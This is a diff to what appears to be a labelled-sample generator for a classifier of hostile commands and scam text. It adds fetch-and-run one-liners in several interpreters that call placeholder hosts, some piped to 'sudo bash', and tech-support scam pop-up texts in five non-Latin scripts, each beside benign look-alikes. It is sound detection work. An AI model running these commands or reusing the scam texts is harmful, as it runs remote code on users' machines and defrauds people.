@@ -17,6 +17,15 @@ Techniques:
 - `python-runner-fetch`: a one-line Python program whose runner (subprocess.run, os.system,
   os.popen) is handed the download (urlopen(…).read(), requests.get(…).text) written inside it.
   Look-alikes: a one-liner that fetches and prints, saves a file, or runs a fixed command.
+- `interpreter-runner-fetch`: Ruby, Perl, Node, Lua, PHP or Tcl one-liners whose runner
+  (system, exec, execSync, os.execute, shell_exec, exec sh -c) is handed what a fetch returned
+  (Net::HTTP.get, LWP's get, fetch, a second runner reading curl's output), and one-line programs
+  that fetch and print piped into a shell. Look-alikes: the same interpreters fetching and
+  printing (to a pager, grep or a checksum), running a fixed local command, or curl saving a file.
+- `scam-brand-local-script`: a tech-support scam in Russian, Japanese, Chinese, Arabic or Korean
+  that borrows a company's name in its own script (Гугл, Эпл, Нортон, グーグル, ノートン, 谷歌, 诺顿,
+  視窗, ويندوز, جوجل, 구글, 노턴): blocked like the same scam naming the company in Latin letters.
+  Look-alikes: the companies' calm support lines and advice in those scripts, with numbers.
 - `clipboard-relay`: a download put on the clipboard and the clipboard then run (`curl … |
   pbcopy && eval "$(pbpaste)"`, xclip/xsel/wl-copy, `irm … | Set-Clipboard; Get-Clipboard |
   iex`). Look-alikes: a download copied to read, the clipboard pasted into a file, a pager or
@@ -346,6 +355,76 @@ NOTICE_CALM = [
 ]
 for text in NOTICE_CALM:
     add("callback-transfer-notice", text, "not_flagged", "any", "unknown")
+
+# ---- interpreter-runner-fetch --------------------------------------------------------------
+RUNNER = [
+    "ruby -e \"system(Net::HTTP.get(URI('https://r1.dunnock-run.invalid/r')))\" -rnet/http",
+    "ruby -rnet/http -e 'exec(Net::HTTP.get(URI(\"https://203.0.113.52/x\")))'",
+    "perl -MLWP::Simple -e 'system(get(\"https://r2.dunnock-run.invalid/p\"))'",
+    "perl -MHTTP::Tiny -e 'system(HTTP::Tiny->new->get(\"https://r2.dunnock-run.invalid/q\")->{content})'",
+    "node -e \"require('child_process').execSync(require('child_process').execSync('curl -s https://r3.dunnock-run.invalid/n').toString())\"",
+    "node -e \"fetch('https://r3.dunnock-run.invalid/f').then(r=>r.text()).then(t=>require('child_process').exec(t))\"",
+    "lua -e \"os.execute(io.popen('curl -s https://r4.dunnock-run.invalid/l'):read('*a'))\"",
+    "php -r \"shell_exec(file_get_contents('https://r5.dunnock-run.invalid/p'));\"",
+    "tclsh <<< 'exec sh -c [exec curl -s https://r6.dunnock-run.invalid/t]'",
+    "python3 -c \"import urllib.request as u; print(u.urlopen('https://r7.dunnock-run.invalid/s').read().decode())\" | sh",
+    "swift -e 'import Foundation; print(try! String(contentsOf: URL(string: \"https://r8.dunnock-run.invalid/w\")!))' | bash",
+    "ruby -ropen-uri -e 'puts URI.open(\"https://198.51.100.77/o\").read' | sudo bash",
+]
+for i, text in enumerate(RUNNER):
+    add("interpreter-runner-fetch", text, "malicious", "any", "terminal", MAC_PAGES[i % 3])
+    add("interpreter-runner-fetch", text, "flagged", "any", "unknown")
+RUNNER_CALM = [
+    "ruby -rnet/http -e 'puts Net::HTTP.get(URI(\"https://example.org/\"))'",
+    "perl -MLWP::Simple -e 'getprint(\"https://example.org/\")'",
+    "node -e \"require('child_process').execSync('curl -sO https://example.org/data.csv')\"",
+    "lua -e \"print(io.popen('curl -s https://example.org/api'):read('*a'))\"",
+    "node -e \"fetch('https://api.example.org/v1').then(r => r.json()).then(console.log)\"",
+    "ruby -e 'system(\"ls -la\")'",
+    "perl -e 'system(\"make test\")'",
+    "python3 -c \"import requests; print(requests.get('https://example.org/').status_code)\" | sha256sum",
+    "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://example.org/').read().decode())\" | grep -i title",
+    "php -r \"echo file_get_contents('https://example.org/');\" | less",
+    "tclsh <<< 'puts [exec curl -s https://example.org/]'",
+    "node -e \"require('https').get('https://example.org/', r => r.pipe(process.stdout))\" | head",
+]
+for i, text in enumerate(RUNNER_CALM):
+    add("interpreter-runner-fetch", text, "not_flagged", "any", "terminal" if i % 2 else "unknown")
+
+# ---- scam-brand-local-script ---------------------------------------------------------------
+BRAND_SCAMS = [
+    "Ваш компьютер заблокирован, так как обнаружен вирус.\nНемедленно позвоните в поддержку Эпл по номеру +7 555 014-22-33.",
+    "Ваш компьютер заблокирован из-за вируса.\nСрочно позвоните в службу Гугл: +7 555 014-22-34. Не выключайте компьютер.",
+    "Ваш компьютер заблокирован, обнаружен троян.\nПозвоните в поддержку Нортон по номеру 8 800 555-35-35.",
+    "お使いのコンピューターはウイルスが検出されたためブロックされました。\n今すぐグーグル サポート +81 555 014 2233 にお電話ください。",
+    "お使いのパソコンはロックされました。\nただちにノートン サポート 0120-555-014 にお電話ください。",
+    "お使いのコンピューターはウイルスに感染しています。\n至急マカフィー サポート +81 555 014 2235 までお電話ください。",
+    "您的电脑因检测到病毒已被锁定。\n请立即拨打谷歌技术支持电话 +86 555 0142 2233。",
+    "您的电脑已被锁定，检测到木马病毒。\n请立即拨打诺顿客服热线 400 555 0142。",
+    "您的電腦已被鎖定。\n請立即撥打視窗技術支援電話 +886 2 5550 1422。",
+    "تم حظر جهاز الكمبيوتر الخاص بك بسبب اكتشاف فيروس.\nاتصل بدعم ويندوز الآن على +966 555 014 2233.",
+    "تم حظر جهاز الكمبيوتر الخاص بك بسبب اكتشاف فيروس.\nاتصل بدعم جوجل الآن على +966 555 014 2234.",
+    "تم قفل جهازك بسبب نشاط مشبوه.\nاتصل بدعم آبل فوراً على +971 555 014 2235.",
+    "바이러스가 감지되어 컴퓨터가 차단되었습니다.\n지금 즉시 구글 고객센터 +82 555 014 2233 으로 전화하십시오.",
+    "바이러스가 감지되어 컴퓨터가 차단되었습니다.\n지금 즉시 노턴 고객센터 +82 555 014 2234 으로 전화하십시오.",
+    "컴퓨터가 잠겼습니다. 해킹 시도가 감지되었습니다.\n즉시 맥아피 지원센터 +82 555 014 2235 로 전화하세요.",
+]
+for text in BRAND_SCAMS:
+    add("scam-brand-local-script", text, "malicious", "any", "unknown")
+BRAND_CALM = [
+    "Служба поддержки Гугл не звонит пользователям сама. Справка: support.google.com.",
+    "Нортон: продление подписки можно оформить в личном кабинете. Телефон поддержки: 8 800 555-35-36 (с 9 до 18).",
+    "グーグルの公式サポートはヘルプセンターからご利用ください。お問い合わせ: 0120-555-016（平日9時〜18時）",
+    "ノートンの製品サポートは平日 0120-555-017 で受け付けています。",
+    "谷歌客服提醒：谷歌不会主动致电用户索要验证码。如有疑问请访问官网。",
+    "诺顿客服热线 400 555 0143，工作时间 9:00-18:00。",
+    "دعم ويندوز الرسمي متاح عبر موقع مايكروسوفت. للاستفسارات: +966 555 014 2236 (من 9 إلى 5).",
+    "구글 고객센터 운영시간은 평일 9시부터 18시까지입니다. 문의: +82 555 014 2236",
+    "Мошенники звонят от имени службы Эпл и просят установить программу. Не звоните по номерам из всплывающих окон: +7 555 014-22-37 — пример такого номера.",
+    "お使いのパソコンのノートン製品は最新です。ご不明点はマイページからお問い合わせください。",
+]
+for text in BRAND_CALM:
+    add("scam-brand-local-script", text, "not_flagged", "any", "unknown")
 
 # ---- free-download-page --------------------------------------------------------------------
 FREE_PAGES = [
